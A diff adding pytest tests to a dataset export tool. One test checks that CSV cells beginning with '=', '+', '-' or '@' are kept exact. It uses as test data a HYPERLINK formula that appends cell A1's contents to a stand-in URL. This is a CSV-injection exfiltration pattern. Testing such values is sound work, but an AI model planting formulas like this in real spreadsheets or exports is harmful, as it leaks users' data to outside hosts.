@@ -377,3 +377,29 @@ def test_the_data_package_says_which_data_and_whose_sources(ds: Dataset) -> None
     assert wikipedia["name"] == "CC-BY-SA-4.0"
     assert "licenses" not in sources["source/grokipedia"]  # none known
     assert "cited" in descriptor["description"]  # what the licences mean for the facts
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_text_a_spreadsheet_may_take_for_a_formula_is_kept_exact(
+    tmp_path: Path, ds: Dataset, lead: str
+) -> None:
+    # The documented choice: CSV is data, read back exactly; no quote is put before it.
+    import frictionless
+
+    film = ds.films[0]
+    formula = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"see")'
+    films = tuple(attrs.evolve(f, synopsis=formula) if f is film else f for f in ds.films)
+    write_csv(Dataset(attrs.evolve(ds.tables, films=films)), tmp_path)
+    row = next(r for r in read(tmp_path, "films") if r["id"] == film.id)
+    assert row["synopsis"] == formula
+    package = frictionless.Package(tmp_path / "datapackage.json")
+    rows = package.get_resource("films").read_rows()
+    assert next(r for r in rows if r["id"] == film.id)["synopsis"] == formula
+
+
+def test_a_dataset_without_a_data_version_has_no_package_version(ds: Dataset) -> None:
+    from takedown import __version__
+
+    descriptor = datapackage(Dataset(ds.tables))
+    assert "version" not in descriptor
+    assert __version__ not in json.dumps(descriptor)
